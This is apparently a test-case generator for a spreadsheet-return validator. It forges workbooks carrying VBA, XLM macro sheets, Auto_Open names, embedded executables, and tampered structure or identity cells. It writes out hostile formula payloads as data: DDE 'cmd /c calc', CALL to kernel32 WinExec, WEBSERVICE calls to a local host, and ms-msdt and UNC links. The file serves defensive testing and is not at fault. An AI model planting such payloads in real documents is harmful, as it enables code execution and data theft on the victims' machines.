"""Forged whole workbooks: active content, changed structure, another identity."""

import re
from functools import partial

import tamper
from tamper import Change, cell, edited, pack, part_of, replacing, unpack

from toolkit.blank.live import result_range
from toolkit.edition.edition import Edition, named
from toolkit.returned.compare import forms
from toolkit.xlsx.address import at

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
BOOK, TYPES = "xl/workbook.xml", "[Content_Types].xml"
LINKS, SHEET_LINKS = "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet4.xml.rels"
FETCHING = {
    "WEBSERVICE": 'WEBSERVICE("http://127.0.0.1:9/"&amp;D7)',
    "HYPERLINK": 'HYPERLINK("\\\\127.0.0.1\\a","7")',
    "CALL": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    "REGISTER": 'REGISTER("a.dll","b","J")',
    "RTD": 'RTD("a.b",,"c")',
    "IMAGE": '_xlfn.IMAGE("http://127.0.0.1:9/a.png")',
    "DDE": "cmd|'/c calc'!A0",
    "MSDDE": "MSEXCEL|'\\\\127.0.0.1\\a'!A1",
    "other workbook": "[1]Sheet1!A1",
    "network workbook": "'\\\\127.0.0.1\\a\\[b.xlsx]c'!A1",
    "xlfn spelling": '_xlfn.WEBSERVICE ("http://127.0.0.1:9/")',
}


def cases(edition: Edition, source: bytes):
    """Return {name: {place: function that makes the file}}."""
    return (
        parts(source) | formulas(source) | names(source) | structure(edition, source)
        | sheets(edition, source) | identity(source)
    )  # fmt: skip


def single(group: str, made):
    return {f"{group}/{name}": {"": make} for name, make in made.items()}


# ── active content ────────────────────────────────────────────────────────────────────────────────


def parts(source: bytes):
    """Programs, objects, links and connections, each by its relationship."""
    inside = {
        "external link": ("externalLink", "/xl/externalLinks/externalLink1.xml"),
        "ole object": ("oleObject", "/xl/embeddings/oleObject1.bin"),
        "embedded program": ("package", "/xl/embeddings/a.exe"),
        "control": ("control", "/xl/activeX/activeX1.xml"),
        "control's state": ("activeXControlBinary", "/xl/activeX/activeX1.bin"),
        "form button": ("ctrlProp", "/xl/ctrlProps/ctrlProp1.xml"),
        "connections": ("connections", "/xl/connections.xml"),
        "query table": ("queryTable", "/xl/queryTables/queryTable1.xml"),
        "xml map": ("xmlMaps", "/xl/xmlMaps.xml"),
        "live data": ("volatileDependencies", "/xl/volatileDependencies.xml"),
        "data model": ("powerPivotData", "/xl/model/item.data"),
        "pivot cache": ("pivotCacheDefinition", "/xl/pivotCache/pivotCacheDefinition1.xml"),
        "ribbon": ("ui/extensibility", "/customUI/customUI14.xml"),
        "task pane": ("webextensiontaskpanes", "/xl/webextensions/taskpanes.xml"),
        "toolbar": ("attachedToolbars", "/xl/attachedToolbars.bin"),
        "kind in other letters": ("OLEObject", "/xl/embeddings/oleObject1.bin"),
        "comments": ("comments", "/xl/comments1.xml"),
        "picture": ("image", "/xl/media/image1.png"),
    }
    outside = {
        "link to a share": ("externalLinkPath", "\\\\127.0.0.1\\a\\b.xlsx"),
        "link to a website": ("externalLinkPath", "http://127.0.0.1:9/a.xlsx"),
        "picture from the network": ("image", "http://127.0.0.1:9/a.png"),
        "template from the network": ("attachedTemplate", "http://127.0.0.1:9/a.xltx"),
        "hyperlink to a share": ("hyperlink", "\\\\127.0.0.1\\a"),
        "hyperlink to a file": ("hyperlink", "file:///C:/a.exe"),
        "hyperlink to a protocol": ("hyperlink", "ms-msdt:/id"),
        "hyperlink to a website": ("hyperlink", "https://www.gov.cn/"),
    }
    link = partial(tamper.related, source, SHEET_LINKS)
    vba = pack(unpack(source) | {"xl/vbaProject.bin": OLE_HEAD})
    typed = '<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    macro_book = ("spreadsheetml.sheet.main+xml", "x")
    return single("active", {
        **{name: partial(link, *how) for name, how in inside.items()},
        **{name: partial(link, *how, external=True) for name, how in outside.items()},
        "vba project": lambda: vba,
        "vba project under another name": lambda: edited(
            tamper.related(source, LINKS, "vbaProject", "/xl/a.bin"), TYPES,
            replacing("</Types>", typed)),
        "vba by type without a part": lambda: edited(source, TYPES, replacing("</Types>", typed)),
        "vba by type alone": lambda: pack(
            unpack(edited(source, TYPES, replacing("</Types>", typed))) | {"xl/a.x": b"x"}),
        "xlm sheet": lambda: tamper.related(source, LINKS, "xlMacrosheet", "/xl/macrosheets/a.xml"),
        "xlm sheet by type": lambda: edited(source, TYPES, replacing(
            "</Types>",
            '<Override PartName="/xl/worksheets/sheet3.xml" '
            'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>')),
        "dialog sheet": lambda: tamper.related(source, LINKS, "dialogsheet", "/xl/a.xml"),
        "workbook of the macro kind, without any": lambda: edited(source, TYPES, replacing(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            f"application/vnd.ms-excel.sheet.macroEnabled.main+xml{macro_book[1]}"[:-1])),
    })  # fmt: skip


OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99)


RESULT_ROW = result_range(named("annual-report", "2021"))[0] + 3


def row_of_results(inner: str, **attributes: str) -> Change:
    """Return a change that fills a cell of the result area, where a button writes."""
    given = "".join(f' {name}="{text}"' for name, text in attributes.items())
    one = f'<c r="A{RESULT_ROW}"{given}>{inner}</c>'

    def filled(found: re.Match[str]) -> str:
        return f"{found[1]}>{one}" + ("</row>" if found[2] == "/>" else "")

    return lambda xml: re.sub(rf'(<row r="{RESULT_ROW}"[^>]*?)(/?>)', filled, xml)


def formulas(source: bytes):
    """Formulas that fetch or start something, wherever a workbook has formulas."""
    found = {}
    for name, formula in FETCHING.items():
        inner = f"<f>{formula}</f><v>7</v>"
        in_cell = {
            "表三 D7": partial(edited, source, "表三", cell("D7", inner)),
            "表三 J7": partial(edited, source, "表三", cell("J7", inner)),
            "表三 A7": partial(edited, source, "表三", cell("A7", inner)),
            "表三 D2": partial(edited, source, "表三", cell("D2", inner)),
            "填报说明 B10": partial(edited, source, "填报说明", cell("B10", inner)),
            "总体情况 A9": partial(edited, source, "总体情况", cell("A9", inner)),
            f"校验结果 A{RESULT_ROW}": partial(edited, source, "校验结果", row_of_results(inner)),
            "表三 L40": partial(
                edited, source, "表三",
                replacing("</sheetData>", f'<row r="40"><c r="L40">{inner}</c></row></sheetData>')),
            "表三 AZ400": partial(
                edited, source, "表三",
                replacing("</sheetData>", f'<row r="400"><c r="AZ400">{inner}</c></row></sheetData>')),
        }  # fmt: skip
        found[f"active/{name} in a cell"] = in_cell
        found |= single("active", {
            f"{name} in a name": partial(
                edited, source, BOOK, replacing(
                    "</definedNames>", f'<definedName name="x">{formula}</definedName></definedNames>')),
            f"{name} in a validation": partial(
                edited, source, "表三",
                replacing("<formula1>0</formula1>", f"<formula1>{formula}</formula1>", 1)),
            f"{name} in a format": partial(
                edited, source, "表三",
                lambda xml, formula=formula: re.sub(
                    r"(<cfRule [^>]*><formula>)[^<]*", lambda m: m[1] + formula, xml, count=1)),
        })  # fmt: skip
    return found


def names(source: bytes):
    """Names that run something when the workbook is opened."""
    running = ("Auto_Open", "auto_open", "_xlnm.Auto_Open", "Auto_Close", "Auto_Activate",
               "Auto_Open1", "auto_open.a")  # fmt: skip

    def named(name: str, more: str = "") -> bytes:
        line = f'<definedName name="{name}"{more}>表三!$A$1</definedName></definedNames>'
        return edited(source, BOOK, replacing("</definedNames>", line))

    return single("active", {
        **{f"name {name}": partial(named, name) for name in running},
        "hidden name Auto_Open": partial(named, "Auto_Open", ' hidden="1"'),
        "xlm function": partial(named, "a", ' function="1" vbProcedure="0"'),
        "vba procedure": partial(named, "a", ' vbProcedure="1"'),
        "xlm name": partial(named, "a", ' xlm="1"'),
        "name of somebody's own": partial(named, "我的区域"),
        "print area": partial(named, "_xlnm.Print_Area", ' localSheetId="3"'),
    })  # fmt: skip


# ── structure ─────────────────────────────────────────────────────────────────────────────────────


def structure(edition: Edition, source: bytes):
    """Every locked cell of the tables changed, one at a time; rows and columns hidden or unlocked."""
    found: dict[str, dict] = {}
    text = "<is><t>某</t></is>"
    swaps = {"constant": ("<v>8</v>", {}), "text": (text, {"t": "inlineStr"}), "blank": ("", {}),
             "another": ("<f>SUM(D7:I7)</f>", {})}  # fmt: skip
    for form in forms(edition):
        sheet = form.sheet.name
        free = next((at(place) for place in sorted(form.typed)), None)
        style = tamper.style_of(source, sheet, free) if free else ""
        for place in form.formulas if form.typed else ():
            for kind, (inner, given) in swaps.items():
                found.setdefault(f"formula/{kind}", {})[f"{sheet} {at(place)}"] = partial(
                    edited, source, sheet, cell(at(place), inner, **given)
                )
        for place in form.labels if form.typed else ():
            spot = f"{sheet} {at(place)}"
            found.setdefault("label/changed", {})[spot] = partial(
                edited, source, sheet, cell(at(place), text, t="inlineStr")
            )
            if style:
                found.setdefault("lock/taken off", {})[spot] = partial(
                    edited, source, sheet, restyled(at(place), style)
                )
        for place in sorted(form.typed)[::7]:
            found.setdefault("style/lost", {})[f"{sheet} {at(place)}"] = partial(
                edited, source, sheet, restyled(at(place), "0")
            )
        for span in form.sheet.merges if form.typed else ():
            if edition_cell(form, span):
                found.setdefault("merge/undone", {})[f"{sheet} {span.partition(':')[0]}"] = partial(
                    edited, source, sheet, replacing(f'<mergeCell ref="{span}"/>', "")
                )
    found["number format/lies"] = {"表三 D7": partial(formatted, source, "&quot;0&quot;")}
    found["number format/hides"] = {"表三 D7": partial(formatted, source, ";;;")}
    found["number format/shortens"] = {"表三 D7": partial(formatted, source, "0,")}
    found["number format/honest"] = {"": partial(formatted, source, "#,##0_ ")}
    return found | lines(source)


def edition_cell(form, span: str) -> bool:
    """Tell whether a merge begins with one of the form's cells."""
    return span.partition(":")[0] in {at(place) for place in form.cells}


def restyled(where: str, style: str) -> Change:
    """Return a change of one cell's style."""
    return lambda xml: re.sub(
        rf'(<c r="{where}"[^>]*? s=")\d+', lambda found: found[1] + style, xml, count=1
    )


def formatted(source: bytes, code: str) -> bytes:
    """Return the return with a number shown in a user-defined format."""
    xf = '<xf numFmtId="300" xfId="0" applyNumberFormat="1"><protection locked="0"/></xf>'
    made, style = tamper.added_style(source, xf)
    form = f'<numFmts count="1"><numFmt numFmtId="300" formatCode="{code}"/></numFmts><fonts'
    made = edited(
        made, "xl/styles.xml",
        lambda xml: re.sub("<numFmts.*?</numFmts>", "", xml).replace("<fonts", form, 1),
    )  # fmt: skip
    return edited(made, "表三", restyled("D7", style))


def lines(source: bytes):
    """Rows and columns inserted, deleted, hidden; sheets without protection; remarks outside."""
    tall = r'<row r="9" ht="[^"]*"'
    remark = '<row r="40"><c r="B40" t="inlineStr"><is><t>请看</t></is></c></row></sheetData>'
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    hidden: dict[str, Change] = {
        "row": replacing('<row r="9"', '<row r="9" hidden="1"'),
        "row of no height": lambda xml: re.sub(tall, '<row r="9" ht="0"', xml),
        "row of hardly any height": lambda xml: re.sub(tall, '<row r="9" ht="0.2"', xml),
    }
    table = partial(edited, source, "表三")
    return {
        **{f"hidden/{name}": {"表三 A9": partial(table, change)} for name, change in hidden.items()},
        "hidden/column": {"表三 E1": partial(table, replacing('min="5"', 'hidden="1" min="5"', 1))},
        "hidden/column of no width": {"表三 E1": partial(
            table, lambda xml: re.sub(r'width="[^"]*"( customWidth="1")? min="5"',
                                      'width="0.1" min="5"', xml))},
        "moved/row inserted": {"表三 -": partial(table, lambda xml: shifted(xml, 9, 1))},
        "moved/row deleted": {"表三 -": partial(
            table, lambda xml: shifted(re.sub(r'<row r="10".*?</row>', "", xml), 11, -1))},
        "outside/remark": {"表三 B40": partial(table, replacing("</sheetData>", remark))},
        "outside/far": {"表三 XFD1048576": partial(table, replacing("</sheetData>", far))},
        "outside/under a merge": {"表三 B7": partial(table, cell("B7", "<v>5</v>"))},
        "label/swapped": {"表三 A7": partial(table, lambda xml: xml.replace("一、本", "%、本", 1)
                                           .replace("二、上", "一、上", 1).replace("%、本", "二、本", 1))},
        "merge/made": {"表三 D7": partial(
            table, replacing("</mergeCells>", '<mergeCell ref="D7:E8"/></mergeCells>'))},
    }  # fmt: skip


def shifted(xml: str, first: int, by: int) -> str:
    """Return a sheet's XML with every row from `first` on moved."""

    def row(match: re.Match[str]) -> str:
        number = int(match[2])
        return f"{match[1]}{number + by if number >= first else number}{match[3]}"

    xml = re.sub(r'(<row r=")(\d+)(")', row, xml)
    return re.sub(r'(<c r="[A-Z]+)(\d+)(")', row, xml)


def sheets(edition: Edition, source: bytes):
    """Every sheet without protection, renamed, hidden, removed, copied."""
    found: dict[str, dict] = {}
    for form in forms(edition):
        name = form.sheet.name
        line = rf'(<sheet [^>]*name="{name}"[^>]*?)state="visible"'
        visible = form.sheet.state == "visible"
        made = {
            "protection/off": partial(
                edited, source, name, lambda xml: re.sub("<sheetProtection[^>]*/>", "", xml)),
            "protection/set to 0": partial(
                edited, source, name, replacing(' sheet="1" objects', ' sheet="0" objects')),
        }  # fmt: skip
        if visible:
            made["sheet/deleted"] = partial(
                edited,
                source,
                BOOK,
                lambda xml, name=name: re.sub(f'<sheet [^>]*name="{name}"[^>]*/>', "", xml),
            )
            for state in ("hidden", "veryHidden"):
                made[f"sheet/{state}"] = partial(
                    edited,
                    source,
                    BOOK,
                    lambda xml, line=line, state=state: re.sub(line, rf'\1state="{state}"', xml),
                )
        for kind, make in made.items():
            found.setdefault(kind, {})[f"{name} -"] = make
        if form.typed:
            found.setdefault("sheet/renamed", {})[f"{name}x -"] = partial(
                edited, source, BOOK, replacing(f'name="{name}"', f'name="{name}x"')
            )
            for state in ("visible", "veryHidden"):
                found.setdefault(f"sheet/copied {state}", {})[f"{name} (2) -"] = partial(
                    copied, source, name, state
                )
    return found  # fmt: skip


def copied(source: bytes, sheet: str, state: str) -> bytes:
    """Return the return with a sheet's copy beside it, one number in it another."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    made = tamper.related(source, LINKS, "worksheet", "/xl/worksheets/more.xml")
    entry = f'<Override PartName="/xl/worksheets/more.xml" ContentType="{kind}"/></Types>'
    made = edited(made, TYPES, replacing("</Types>", entry))
    line = f'<sheet name="{sheet} (2)" sheetId="99" state="{state}" r:id="rIdX"/></sheets>'
    made = edited(made, BOOK, replacing("</sheets>", line))
    content = unpack(source)[part_of(unpack(source), sheet)].replace(b"<v>7</v>", b"<v>99</v>")
    return pack(unpack(made) | {"xl/worksheets/more.xml": content})


# ── whose return ──────────────────────────────────────────────────────────────────────────────────


def identity(source: bytes):
    """Another agency, code, year, edition or template than in the mark."""
    text = {"t": "inlineStr"}
    cover, mark = partial(edited, source, "填报说明"), partial(edited, source, "标记")
    return {
        "identity/another agency": {
            "填报说明 B4": partial(cover, cell("B4", "<is><t>另一局</t></is>", **text))},
        "identity/no agency": {"填报说明 B4": partial(cover, cell("B4", ""))},
        "identity/another code": {
            "填报说明 B5": partial(cover, cell("B5", "<is><t>99</t></is>", **text))},
        "identity/another year": {"填报说明 B7": partial(cover, cell("B7", "<v>2024</v>"))},
        "identity/year in words": {
            "填报说明 B7": partial(cover, cell("B7", "<is><t>今年</t></is>", **text))},
        "mark/another edition": {
            "": partial(mark, cell("B2", "<is><t>2019</t></is>", **text))},
        "mark/another form": {
            "": partial(mark, cell("B1", "<is><t>site-report</t></is>", **text))},
        "mark/unknown edition": {
            "": partial(mark, cell("B2", "<is><t>2099</t></is>", **text))},
        "mark/older template": {"": partial(mark, cell("B6", "<is><t>00</t></is>", **text))},
        "mark/gone": {"": partial(
            edited, source, BOOK, lambda xml: re.sub('<sheet [^>]*name="标记"[^>]*/>', "", xml))},
    }  # fmt: skip
